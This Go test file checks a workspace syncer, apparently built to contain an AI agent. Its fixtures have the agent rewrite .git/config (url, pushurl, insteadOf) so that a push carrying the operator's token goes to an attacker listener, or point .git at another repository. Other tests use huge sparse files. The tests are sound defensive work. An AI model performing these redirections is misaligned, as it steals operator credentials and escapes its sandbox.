package syncer

import (
	"fmt"
	"math/rand/v2"
	"runtime"
	"runtime/metrics"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/go-git/go-git/v5"
	"github.com/go-git/go-git/v5/plumbing/cache"
	"github.com/go-git/go-git/v5/plumbing/object"
	"github.com/go-git/go-git/v5/storage/filesystem"

	"github.com/computerfs/computerfs/internal/attacker"
	"github.com/computerfs/computerfs/internal/gittest"
)

// TestPushConnectsToSpecAttack: the agent rewrites .git/config (url,
// pushurl, insteadOf, an include) to have the push, with the spec's
// token, go to its server. The push goes to the spec's remote and the
// attacker sees no connection.
func TestPushConnectsToSpecAttack(t *testing.T) {
	evil := attacker.Listen(t)
	for _, name := range []string{"url", "pushurl", "insteadOf", "pushInsteadOf"} {
		for _, transport := range []string{"local", "http-token"} {
			t.Run(transport+"/"+name, func(t *testing.T) {
				files := map[string]string{"a": "a\n"}
				var e *gitEnv
				if transport == "http-token" {
					t.Setenv("ATTACK_TOKEN", "operator-secret-token")
					bare := gittest.Bare(t, gittest.NewRepo(t, files))
					url := gittest.ServeHTTPAuth(t, bare, "agent", "operator-secret-token")
					e = newGitEnv(t, files, gitOpts{url: url, extra: ", token_env: ATTACK_TOKEN, username: agent"})
					e.bare = bare
				} else {
					e = newGitEnv(t, files, gitOpts{})
				}
				cfg := map[string]string{
					"url":           "[remote \"origin\"]\n\turl = " + evil.URL + "/x.git\n",
					"pushurl":       "[remote \"origin\"]\n\turl = " + e.url + "\n\tpushurl = " + evil.URL + "/p.git\n",
					"insteadOf":     "[url \"" + evil.URL + "/\"]\n\tinsteadOf = " + e.url + "\n",
					"pushInsteadOf": "[url \"" + evil.URL + "/\"]\n\tpushInsteadOf = " + e.url + "\n",
				}[name]
				e.write("/r/.git/config", cfg)
				e.write("/r/a", "pushed to the spec's remote\n")
				r := e.mustSync()
				evil.Check(t)
				if r.Pushed == "" || e.remote("show", "main:a") != "pushed to the spec's remote" {
					t.Fatalf("report %+v; remote a %q", r, e.remote("show", "main:a"))
				}
			})
		}
	}
}

// TestPushDotGitElsewhereAttack: a .git that is a gitdir file, a link, or
// borrows another repository's objects: the push refuses (an error) and
// the remote is untouched.
func TestPushDotGitElsewhereAttack(t *testing.T) {
	other := gittest.NewRepo(t, map[string]string{"secret": "another workspace's\n"})
	for _, name := range []string{"gitdir-file", "symlink", "alternates"} {
		t.Run(name, func(t *testing.T) {
			e := newGitEnv(t, map[string]string{"a": "a\n"}, gitOpts{})
			before := e.remote("rev-parse", "main")
			switch name {
			case "gitdir-file":
				check(t, e.fs.RemoveAll("/r/.git"))
				e.write("/r/.git", "gitdir: "+other+"/.git\n")
			case "symlink":
				check(t, e.fs.Rename("/r/.git", "/elsewhere"))
				check(t, e.fs.Symlink("/elsewhere", "/r/.git"))
			case "alternates":
				e.write("/r/.git/objects/info/alternates", other+"/.git/objects\n")
			}
			e.write("/r/a", "changed\n")
			r := e.sync()
			if len(r.Errors) == 0 || r.Pushed != "" {
				t.Fatalf("sync went ahead: %+v", r)
			}
			t.Log(r.Errors)
			if after := e.remote("rev-parse", "main"); after != before {
				t.Fatalf("the remote moved to %s", after)
			}
		})
	}
}

// heapPeak samples the Go heap while fn runs and returns how far it rose
// above where it was before.
func heapPeak(t *testing.T, fn func()) uint64 {
	t.Helper()
	runtime.GC()
	s := []metrics.Sample{{Name: "/memory/classes/heap/objects:bytes"}}
	metrics.Read(s)
	base := s[0].Value.Uint64()
	var peak atomic.Uint64
	stop := make(chan struct{})
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		s := []metrics.Sample{{Name: "/memory/classes/heap/objects:bytes"}}
		for {
			metrics.Read(s)
			if v := s[0].Value.Uint64(); v > peak.Load() {
				peak.Store(v)
			}
			select {
			case <-stop:
				return
			case <-time.After(2 * time.Millisecond):
			}
		}
	}()
	fn()
	close(stop)
	wg.Wait()
	if p := peak.Load(); p > base {
		return p - base
	}
	return 0
}

// TestPushSizeLimitAttack: a file over git.max_file_size is left out of
// the commit, as a conflict of its own, and the rest is committed and
// pushed; a file of exactly the limit goes; once the file shrinks, the
// conflict goes and it is pushed. A commit the agent made itself with a
// blob over the limit is not pushed.
func TestPushSizeLimitAttack(t *testing.T) {
	const max = 1 << 20
	e := newGitEnv(t, map[string]string{"a": "a\n"}, gitOpts{})
	e.target.MaxFileSize = max
	e.write("/r/exact", strings.Repeat("x", max))
	e.write("/r/over", strings.Repeat("y", max+1))
	e.write("/r/a", "small change\n")
	r := e.sync()
	if len(r.Conflicts) != 1 || r.Conflicts[0].Path != "/r/over" || !strings.Contains(r.Conflicts[0].Reason, "max_file_size") {
		t.Fatalf("conflicts %+v", r)
	}
	if r.Pushed == "" || fmt.Sprint(r.Committed) != "[M a A exact]" {
		t.Fatalf("sync: %+v", r)
	}
	if got := e.remote("ls-tree", "--name-only", "main"); got != "a\nexact" {
		t.Fatalf("remote tree %q", got)
	}
	e.write("/r/over", "now small\n")
	r = e.mustSync()
	if fmt.Sprint(r.Committed) != "[A over]" || e.remote("show", "main:over") != "now small" {
		t.Fatalf("after shrinking: %+v", r)
	}
	if st := e.sy.Status(); len(st) != 1 || len(st[0].Conflicts) != 0 {
		t.Fatalf("the conflict stays: %+v", st)
	}

	// The agent commits a large file itself (git on the fast path): the
	// push is refused, the remote untouched.
	before := e.remote("rev-parse", "main")
	e.write("/r/huge", strings.Repeat("z", 2*max))
	st := filesystem.NewStorage(e.fs.Billy("/r/.git"), cache.NewObjectLRUDefault())
	repo, err := git.Open(st, e.fs.Billy("/r"))
	check(t, err)
	w, err := repo.Worktree()
	check(t, err)
	_, err = w.Add("huge")
	check(t, err)
	sig := &object.Signature{Name: "agent", Email: "a@b", When: time.Now()}
	_, err = w.Commit("big", &git.CommitOptions{Author: sig, Committer: sig})
	check(t, err)
	st.Close()
	r = e.sync()
	if len(r.Conflicts) != 1 || !strings.Contains(r.Conflicts[0].Reason, "max_file_size") || r.Pushed != "" {
		t.Fatalf("a commit with a large blob: %+v", r)
	}
	if e.remote("rev-parse", "main") != before {
		t.Fatal("the remote moved")
	}
}

// TestPushSparseHugeFileAttack: a sparse 4 GiB file in a push source is a
// conflict, not a crash, and the daemon's heap stays small; a file just
// under the limit is streamed into the commit and the push (heap well
// below its size).
func TestPushSparseHugeFileAttack(t *testing.T) {
	e := newGitEnv(t, map[string]string{"a": "a\n"}, gitOpts{})
	e.write("/r/sparse", "")
	check(t, e.fs.Truncate("/r/sparse", 4<<30))
	e.write("/r/a", "b\n")
	var r SourceReport
	grew := heapPeak(t, func() { r = e.sync() })
	t.Logf("sparse 4 GiB: heap rose by %d MiB", grew>>20)
	if len(r.Conflicts) != 1 || r.Conflicts[0].Path != "/r/sparse" || r.Pushed == "" {
		t.Fatalf("sync: %+v", r)
	}
	if grew > 256<<20 {
		t.Fatalf("the heap rose by %d MiB for a file that is not committed", grew>>20)
	}

	// 64 MiB of incompressible content, under a 64 MiB limit.
	const size = 64 << 20
	e.target.MaxFileSize = size
	buf := make([]byte, size)
	rng := rand.NewChaCha8([32]byte{1})
	rng.Read(buf)
	// What the store itself takes for 64 MiB more (its memtable holds
	// what was written until it flushes): the push writes the blob once
	// into .git/objects, and may take that much beside its own.
	store := heapPeak(t, func() { check(t, e.fs.WriteFile("/scratch", buf, 0o644)) })
	check(t, e.fs.WriteFile("/r/big", buf, 0o644))
	buf = nil
	grew = heapPeak(t, func() { r = e.sync() })
	t.Logf("64 MiB file committed and pushed: heap rose by %d MiB (the store's own cost of writing 64 MiB: %d MiB)", grew>>20, store>>20)
	if r.Pushed == "" || !strings.Contains(fmt.Sprint(r.Committed), "A big") {
		t.Fatalf("sync: %+v", r)
	}
	if grew > store+32<<20 {
		t.Fatalf("the heap rose by %d MiB for a %d MiB file (the store's share: %d MiB): not streamed", grew>>20, size>>20, store>>20)
	}
	if got := e.remote("cat-file", "-s", "main:big"); got != fmt.Sprint(size) {
		t.Fatalf("remote big: %s bytes", got)
	}
}

// TestS3WriteBackSizeLimitAttack: a file over s3.max_file_size (here a
// sparse 3 GiB file over a 1 GiB limit, and one byte over a small limit)
// is a conflict; nothing of it is sent; the rest is uploaded.
func TestS3WriteBackSizeLimitAttack(t *testing.T) {
	e := newEnv(t, envOpts{mode: Headers, objects: map[string]string{"a": "a"}}) // no probe PUTs
	e.target.MaxFileSize = 1 << 30
	e.write("/s/small", "ok")
	e.write("/s/sparse", "")
	check(t, e.fs.Truncate("/s/sparse", 3<<30))
	puts := e.countPuts()
	r := e.sync()
	if len(r.Conflicts) != 1 || r.Conflicts[0].Path != "/s/sparse" || fmt.Sprint(r.Uploaded) != "[/s/small]" {
		t.Fatalf("sync: %+v", r)
	}
	if n := puts.Requests(); n != 1 {
		t.Fatalf("%d PUTs, want 1 (the small file)", n)
	}
	if _, ok := e.bucketFiles()["sparse"]; ok {
		t.Fatal("the sparse file was uploaded")
	}
	e.target.MaxFileSize = 10
	e.write("/s/eleven", "0123456789A")
	e.write("/s/ten", "0123456789")
	r = e.sync()
	if len(r.Conflicts) != 2 || fmt.Sprint(r.Uploaded) != "[/s/ten]" {
		t.Fatalf("sync: %+v", r)
	}
}
